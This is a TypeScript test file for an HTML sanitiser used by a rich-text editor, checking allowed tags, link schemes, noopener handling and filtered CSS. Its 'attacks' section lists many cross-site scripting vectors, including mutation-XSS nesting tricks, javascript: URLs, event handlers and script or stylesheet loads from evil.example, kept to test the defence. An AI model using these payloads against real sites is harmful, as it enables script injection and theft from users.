import { describe, expect, it } from 'vitest';
import { sanitiseRichText } from '@/domain/rich-text-policy';

describe('what an editor may write', () => {
  it('keeps every allowed tag and attribute as it was', () => {
    const html =
      '<div class="nota"><p style="color: red; text-align: center">Um <b>b</b> <strong>s</strong> ' +
      '<em>e</em> <i>i</i> <u>u</u><br><span>texto</span> ' +
      '<a href="https://exemplo.com" rel="nofollow">loja</a></p></div>';
    expect(sanitiseRichText(html)).toBe(html);
  });

  it.each(['http', 'https', 'ftp', 'mailto', 'tel', 'callto', 'cid', 'xmpp'])(
    'keeps a link of the scheme %s',
    (scheme) => {
      const html = `<a href="${scheme}:x">x</a>`;
      expect(sanitiseRichText(html)).toBe(html);
    },
  );

  it.each(['/categorias', '#topo', '?q=1', 'presente/1'])('keeps the local link %s', (href) => {
    const html = `<a href="${href}">x</a>`;
    expect(sanitiseRichText(html)).toBe(html);
  });

  it('keeps the text of tags that it removes, the headings of a table too', () => {
    expect(
      sanitiseRichText(
        '<h1>Título</h1><ul><li>item</li></ul><table><thead><tr><th>Medida</th></tr></thead>' +
          '<tbody><tr><td>10 cm</td></tr></tbody></table>' +
          '<form>nome <button>Enviar</button></form><custom-tag>fim</custom-tag>',
      ),
    ).toBe('TítuloitemMedida10 cmnome Enviarfim');
  });

  it('keeps text that only looks like markup', () => {
    expect(sanitiseRichText('<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>')).toBe(
      '<p>1 &lt; 2 &amp;&amp; 3 &gt; 2</p>',
    );
    expect(sanitiseRichText('')).toBe('');
  });
});

describe('links to another window', () => {
  it.each([
    ['<a href="/x" target="_blank">x</a>', '<a href="/x" target="_blank" rel="noopener">x</a>'],
    ['<a href="/x" target="_BLANK">x</a>', '<a href="/x" target="_BLANK" rel="noopener">x</a>'],
    ['<a href="/x" target="loja">x</a>', '<a href="/x" target="loja" rel="noopener">x</a>'],
    [
      '<a href="/x" target="_blank" rel="nofollow opener">x</a>',
      '<a href="/x" target="_blank" rel="nofollow noopener">x</a>',
    ],
    [
      '<a href="/x" target="_blank" rel="NoOpener nofollow">x</a>',
      '<a href="/x" target="_blank" rel="noopener nofollow">x</a>',
    ],
  ])('turns %s into %s', (dirty, clean) => {
    expect(sanitiseRichText(dirty)).toBe(clean);
  });

  it('leaves a link to the same window alone', () => {
    const html = '<a href="/x" target="_self">x</a>';
    expect(sanitiseRichText(html)).toBe(html);
  });
});

describe('inline styles', () => {
  it.each([
    ['color: red; position: fixed; top: 0', 'color: red'],
    ['POSITION : absolute', null],
    ['background: url(https://espia.example/p.gif); color: red', 'color: red'],
    ['background: URL ("x")', null],
    ['background-image: image-set("x" 1x)', null],
    ['background-image: -webkit-image-set("x" 1x)', null],
    ['width: expression(alert(1))', null],
    ['behavior: none', null],
    ['-moz-binding: none', null],
    ['background: u\\72l(x)', null],
    ['posi\\74ion: fixed', null],
    ['color: red; /*;*/ position: fixed', null],
    ['font-family: "a;position: fixed;b"', null],
    ['color: red;;', 'color: red'],
    ['lixo', null],
  ])('reduces %j to %j', (style, kept) => {
    const box = `<p style="${style.replaceAll('"', '&quot;')}">x</p>`;
    const attribute = kept === null ? '' : ` style="${kept.replaceAll('"', '&quot;')}"`;
    expect(sanitiseRichText(box)).toBe(`<p${attribute}>x</p>`);
  });
});

describe('attacks', () => {
  const vectors = [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    '<template><script>alert(1)</script></template>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">',
    '<p title="--><img src=x onerror=alert(1)>"><!-- </p>',
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[><img src=x onerror=alert(1)>]]>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \u0001javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="blob:https://x/1">x</a>',
    '<a href="sms:1">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<p onclick="alert(1)">x</p>',
    '<p ONMOUSEOVER=alert(1)>x</p>',
    '<p/onpointerenter=alert(1)>x</p>',
    '<span onfocus=alert(1) tabindex=0 autofocus>x</span>',
    '<p data-x="1" data-action="javascript:alert(1)">x</p>',
    '<p id="x" name="y" aria-label="z" is="x-y" slot="s" contenteditable>x</p>',
    '<style>p{background:url(javascript:alert(1))}</style>',
    '<style>@import "//evil.example/x.css";</style>',
    '<link rel=stylesheet href=//evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe><img src=x onerror=alert(1)></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit formaction="javascript:alert(1)"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<audio src=x onerror=alert(1)>',
    '<details open ontoggle=alert(1)>x</details>',
    '<marquee onstart=alert(1)>x</marquee>',
    '<body onload=alert(1)>',
    '<div><p></div><svg></p><style><a title="</style><img src onerror=alert(1)>">',
  ];

  const TAG = /<\/?([^\s/>]+)([^>]*)>/g;
  const ALLOWED_TAGS = new Set(['a', 'b', 'strong', 'em', 'i', 'u', 'br', 'p', 'span', 'div']);
  const ATTRIBUTE = /([^\s=]+)="([^"]*)"/g;
  const ALLOWED_ATTRIBUTES = new Set(['href', 'target', 'rel', 'class', 'style']);

  it.each(vectors)('disarms %s', (vector) => {
    const clean = sanitiseRichText(`<p>antes</p>${vector}`);

    expect(clean.startsWith('<p>antes</p>')).toBe(true);
    for (const [, tag, attributes] of clean.matchAll(TAG)) {
      expect(ALLOWED_TAGS).toContain(tag);
      for (const [, name, value] of (attributes ?? '').matchAll(ATTRIBUTE)) {
        // `is` cannot be taken off an element that was created with it, only emptied.
        if (name === 'is' && value === '') continue;
        expect(ALLOWED_ATTRIBUTES).toContain(name);
        expect(value).not.toMatch(/script|data:|blob:|sms:|file:/i);
      }
    }
  });

  it.each(vectors)('has nothing left to remove after the first time: %s', (vector) => {
    const once = sanitiseRichText(vector);
    expect(sanitiseRichText(once)).toBe(once);
  });

  it('drops the text of scripts and styles instead of showing it', () => {
    expect(sanitiseRichText('<p>a<script>alert(1)</script><style>p{}</style>b</p>')).toBe(
      '<p>ab</p>',
    );
  });
});
